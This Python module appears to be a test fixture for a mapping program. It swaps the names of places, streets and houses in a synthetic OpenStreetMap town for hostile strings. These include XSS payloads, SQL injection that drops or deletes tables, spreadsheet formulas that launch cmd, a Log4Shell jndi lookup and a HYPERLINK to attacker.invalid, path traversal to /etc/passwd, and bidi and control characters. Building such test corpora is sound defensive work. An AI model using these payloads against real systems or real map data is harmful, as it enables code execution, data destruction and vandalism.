"""The town with hostile names: what a vandal can write into a public map, as names of places, streets and houses.

Only tests draw this variant. Each text is aimed at something the program writes: a page, a script, a spreadsheet, a query, a
typeset document, a log line, a terminal. All of them can stand in an OpenStreetMap XML file; `CONTROL` cannot, and is for tests
of what reads PBF and CSV.
"""

from __future__ import annotations

from dataclasses import replace

from era_geo.town.objects import Address, Tags, Town

NAMES = {
    # places
    "Victoria Primary School": '<img src=x onerror="alert(1)">',
    "Haugh Park Play Area": "${alert(1)}",
    "Wee Thistles Nursery": "`${document.cookie}`",
    "Marrow Academy": '=HYPERLINK("https://attacker.invalid","Academy")',
    "Southbrae Primary School": "Robert'); DROP TABLE places;--",
    "St Serf's Parish Church": "+cmd|' /C calc'!A0",
    "Invermarrow Library": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Invermarrow Police Station": "-2+3+cmd|' /C calc'!A0",
    "Bankfoot House Care Home": "\u202eemoH eraC\u202c Bankfoot\u200b\u200f",
    "Ropeworks Community Centre": "Centre\u0085with\u007fcontrols\u009b31m\u2028and lines\ufeff",
    "Marrow Leisure Centre": "Very long " + "W" * 245,
    "Wee Rascals Soft Play": "]]></name></script><script>alert(2)</script>",
    "Bruce House": '#eval("1+1") $ x $ *bold* _it_ @ref <label> #import "x.typ": *',
    "Carse Park Play Area": "first line\nsecond line\ttabbed",
    "Victoria Square Play Park": "{{7*7}} {% raw %} {0} %s %n \\u003cscript\\u003e",
    "Carse Park": "'\" onmouseover='alert(4)' x=\"",
    "Saint Ninian's R.C. Church": "../../../../etc/passwd\u2029",
    "Strathmarrow College": "[click](javascript:alert(5)) | col | `code`",
    "Market Place": "&lt;b&gt; &amp;#x3C; &#0; &nbsp",
    "Lindenlea": "NULL",
    # streets
    "Lade Street": "<b onmouseover=alert(3)>Lade</b> Street",
    "Tolbooth Wynd": "=1+1 Wynd",
    "Glebe Crescent": "Glebe ' OR 1=1 -- Crescent",
    "Haugh Drive": "Haugh\u202e evirD",
    # houses and flats
    "Block 3": "'; DELETE FROM addresses; --",
    "Park Lodge": "${jndi:ldap://attacker.invalid/a}",
    "Room 3": "<svg/onload=alert(6)>",
    "Tigh an Uillt": "\u00a0 \u3000",
}
CONTROL = "a\x00b\x01c\x0bd\x1be\x7f"

_KEYS = ("name", "addr:street", "addr:housename", "addr:flats", "addr:unit", "operator", "bridge:name")


def with_hostile_names(town: Town) -> Town:
    """Give the town with names of places, streets, houses and flats turned hostile, in its objects and in its truth alike."""
    return replace(
        town,
        nodes=tuple(replace(node, tags=_tags(node.tags)) if node.tags else node for node in town.nodes),
        ways=tuple(replace(way, tags=_tags(way.tags)) for way in town.ways),
        relations=tuple(replace(relation, tags=_tags(relation.tags)) for relation in town.relations),
        addresses=tuple(_address(address) for address in town.addresses),
        cases=tuple(replace(case, address=_address(case.address)) if case.address else case for case in town.cases),
    )


def _tags(tags: Tags) -> dict[str, str]:
    return {key: _text(value) if key in _KEYS else value for key, value in tags.items()}


def _text(value: str) -> str:
    """Give the hostile form of a name, or of each name in a list of flats."""
    if value in NAMES:
        return NAMES[value]
    return ";".join(NAMES.get(part, part) for part in value.split(";"))


def _address(address: Address) -> Address:
    street, house, flat = (part and _text(part) for part in (address.street, address.house, address.flat))
    return replace(address, street=street, house=house, flat=flat)
